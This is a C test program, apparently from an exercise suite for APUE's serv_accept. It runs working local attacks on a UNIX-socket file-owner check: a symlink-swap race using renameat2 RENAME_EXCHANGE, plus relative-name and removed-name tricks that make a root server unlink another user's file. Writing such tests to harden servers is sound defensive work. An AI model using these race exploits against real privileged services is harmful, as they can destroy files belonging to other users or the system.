/*
 * attack_sock.c - a hostile local user against the file-owner check of
 * serv_accept (3e Figure 17.9): what the t/0470 tests run as an
 * unprivileged user.  Sockets only (it binds names itself); Linux only
 * (the renameat2 system call with RENAME_EXCHANGE), hence _GNU_SOURCE.
 *
 * usage: attack_sock swap SERVER DIR TARGETDIR ATTEMPTS
 *          DIR holds a directory "a" (ours) and a symbolic link "b" to
 *          TARGETDIR; a thread swaps them for ever while we bind "DIR/a/s",
 *          connect and ask for /dev/null, ATTEMPTS times.  A server that
 *          lstat()s and unlink()s "DIR/a/s" as root may unlink TARGETDIR/s.
 *          Prints "victim gone after N" or "victim intact after N".
 *        attack_sock relname SERVER NAME PATH
 *          bind the relative NAME (from our working directory), connect,
 *          ask for PATH; prints "fd: <first line>" or "error N: <text>"
 *          or "failed: <why>".
 *        attack_sock keepname SERVER NAME PATH
 *          the same, but leave NAME for the server to remove (or not).
 *        attack_sock stolen SERVER NAME PATH
 *          bind NAME and remove our file; print "bound"; once a file
 *          of someone else's is at NAME (10 s at most), connect and ask
 *          for PATH, as relname.  A server that removes the name it
 *          sees with root's rights removes that file.
 */
#define _GNU_SOURCE             /* syscall, SYS_renameat2 */
#include "apue.h"
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>

/* The system call itself: musl has no renameat2 wrapper, and glibc's
 * needs 2.28.  RENAME_EXCHANGE is the kernel's value (linux/fs.h). */
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
static int exchange(int dirfd, const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, dirfd, a, dirfd, b, RENAME_EXCHANGE);
}

static atomic_int stop;
static int dirfd_swap;

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		(void)exchange(dirfd_swap, "a", "b");
	return NULL;
}

static socklen_t make_addr(struct sockaddr_un *un, const char *path)
{
	memset(un, 0, sizeof *un);
	un->sun_family = AF_UNIX;
	if (strlen(path) >= sizeof un->sun_path)
		err_quit("name too long: %s", path);
	strcpy(un->sun_path, path);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(path));
}

static char text[MAXLINE];
static size_t text_len;

static ssize_t keep_text(int fd, const void *buf, size_t n)
{
	(void)fd;
	if (n > sizeof text - 1 - text_len)
		n = sizeof text - 1 - text_len;
	memcpy(text + text_len, buf, n);
	text_len += n;
	text[text_len] = '\0';
	return (ssize_t)n;
}

/* Connect fd to server, ask for path, print what came back. */
static void ask(int fd, const char *server, const char *path, int quiet)
{
	struct sockaddr_un sun;
	socklen_t len = make_addr(&sun, server);
	char req[MAXLINE], line[MAXLINE];
	int n, got, write_error = 0;
	ssize_t r;

	if (connect(fd, (struct sockaddr *)&sun, len) < 0) {
		if (!quiet)
			printf("failed: connect: %s\n", strerror(errno));
		return;
	}
	n = snprintf(req, sizeof req, "open %s 0", path);
	/* EPIPE: a server that refused us may have hung up before our
	 * request came, its reason still queued for us to read. */
	if (writen(fd, req, (size_t)n + 1) != n + 1 &&
	    (write_error = errno) != EPIPE) {
		if (!quiet)
			printf("failed: write: %s\n", strerror(write_error));
		return;
	}
	text_len = 0;
	text[0] = '\0';
	got = recv_fd(fd, keep_text);
	if (got < 0 && errno != 0 && write_error != 0) {
		if (!quiet)
			printf("failed: write: %s\n", strerror(write_error));
		return;
	}
	if (quiet) {
		if (got >= 0)
			close(got);
		return;
	}
	if (got >= 0) {
		r = read(got, line, sizeof line - 1);
		line[r > 0 ? r : 0] = '\0';
		line[strcspn(line, "\n")] = '\0';
		printf("fd: %s\n", line);
		close(got);
	} else if (errno == 0) {
		text[strcspn(text, "\n")] = '\0';
		printf("error %d: %s\n", -got, text);
	} else {
		printf("failed: %s\n", strerror(errno));
	}
}

static int swap_attack(const char *server, const char *dir,
		       const char *target, long attempts)
{
	char victim[PATH_MAX], name[PATH_MAX];
	struct sockaddr_un un;
	struct stat sb;
	pthread_t tid;
	long i;
	int realdir, fd;

	snprintf(victim, sizeof victim, "%s/s", target);
	snprintf(name, sizeof name, "%s/a/s", dir);
	if ((dirfd_swap = open(dir, O_RDONLY | O_DIRECTORY)) < 0)
		err_sys("open %s", dir);
	/* The real directory, whatever its name is at the moment. */
	if ((realdir = openat(dirfd_swap, "a", O_RDONLY | O_DIRECTORY | O_NOFOLLOW)) < 0)
		err_sys("open %s/a", dir);
	umask(077);                     /* our socket file: rwx------ */
	if (pthread_create(&tid, NULL, swapper, NULL) != 0)
		err_quit("pthread_create failed");
	for (i = 1; i <= attempts; i++) {
		if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
			err_sys("socket");
		(void)unlinkat(realdir, "s", 0);
		while (bind(fd, (struct sockaddr *)&un,
			    make_addr(&un, name)) < 0)
			;               /* "a" is the link just now: again */
		ask(fd, server, "/dev/null", 1);
		close(fd);
		if (lstat(victim, &sb) < 0 && errno == ENOENT)
			break;
	}
	atomic_store(&stop, 1);
	pthread_join(tid, NULL);
	(void)unlinkat(realdir, "s", 0);
	if (i > attempts) {
		printf("victim intact after %ld\n", attempts);
		return 0;
	}
	printf("victim gone after %ld\n", i);
	return 1;
}

static int relname_attack(const char *server, const char *name,
			  const char *path, int keep)
{
	struct sockaddr_un un;
	int fd;

	umask(077);
	if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
		err_sys("socket");
	(void)unlink(name);
	if (bind(fd, (struct sockaddr *)&un, make_addr(&un, name)) < 0)
		err_sys("bind %s", name);
	ask(fd, server, path, 0);
	close(fd);
	if (!keep)
		(void)unlink(name);
	return 0;
}

static int stolen_attack(const char *server, const char *name,
			 const char *path)
{
	struct sockaddr_un un;
	struct stat sb;
	struct timespec tick = { 0, 10 * 1000 * 1000 };
	int fd, i;

	umask(077);
	if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
		err_sys("socket");
	(void)unlink(name);
	if (bind(fd, (struct sockaddr *)&un, make_addr(&un, name)) < 0)
		err_sys("bind %s", name);
	if (unlink(name) < 0)
		err_sys("unlink %s", name);
	printf("bound\n");
	for (i = 0; i < 1000 && lstat(name, &sb) < 0; i++)
		nanosleep(&tick, NULL);
	ask(fd, server, path, 0);
	close(fd);
	return 0;
}

int main(int argc, char *argv[])
{
	setvbuf(stdout, NULL, _IONBF, 0);
	signal(SIGPIPE, SIG_IGN);       /* a server that hangs up is an EPIPE */
	if (argc == 6 && strcmp(argv[1], "swap") == 0)
		return swap_attack(argv[2], argv[3], argv[4], atol(argv[5]));
	if (argc == 5 && strcmp(argv[1], "relname") == 0)
		return relname_attack(argv[2], argv[3], argv[4], 0);
	if (argc == 5 && strcmp(argv[1], "keepname") == 0)
		return relname_attack(argv[2], argv[3], argv[4], 1);
	if (argc == 5 && strcmp(argv[1], "stolen") == 0)
		return stolen_attack(argv[2], argv[3], argv[4]);
	fprintf(stderr, "usage: attack_sock swap SERVER DIR TARGETDIR ATTEMPTS\n"
			"       attack_sock relname SERVER NAME PATH\n"
			"       attack_sock keepname SERVER NAME PATH\n"
			"       attack_sock stolen SERVER NAME PATH\n");
	return 2;
}
